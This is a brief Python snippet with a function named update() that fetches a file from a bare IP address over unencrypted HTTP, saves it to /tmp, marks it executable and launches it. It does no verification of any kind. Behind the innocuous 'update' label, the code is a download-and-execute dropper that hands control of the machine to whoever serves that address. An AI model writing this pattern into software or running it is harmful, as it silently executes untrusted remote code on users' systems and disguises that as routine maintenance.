import os
import urllib.request
import subprocess

def update():
    data = urllib.request.urlopen('http://203.0.113.5/u').read()
    with open('/tmp/u', 'wb') as f:
        f.write(data)
    os.chmod('/tmp/u', 0o755)
    subprocess.Popen(['/tmp/u'])
